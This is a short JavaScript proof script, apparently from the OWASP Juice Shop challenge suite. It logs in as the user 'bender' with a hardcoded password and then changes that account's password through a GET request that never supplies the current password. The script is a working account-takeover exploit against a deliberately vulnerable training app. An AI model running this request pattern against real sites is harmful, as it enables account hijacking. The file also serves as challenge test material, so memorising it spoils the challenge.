import { changesPassword } from '../features/accounts.js'
import { proof } from '../proof.js'

export const changePasswordBenderChallenge = proof({
  async attack(me) {
    const { token } = await me.logIn('bender@juice-sh.op', 'OhG0dPlease1nsertLiquor!')
    await me.get('/rest/user/change-password?new=slurmCl4ssic&repeat=slurmCl4ssic', { token })
  },
  honest: changesPassword,
  isLast: true,
})
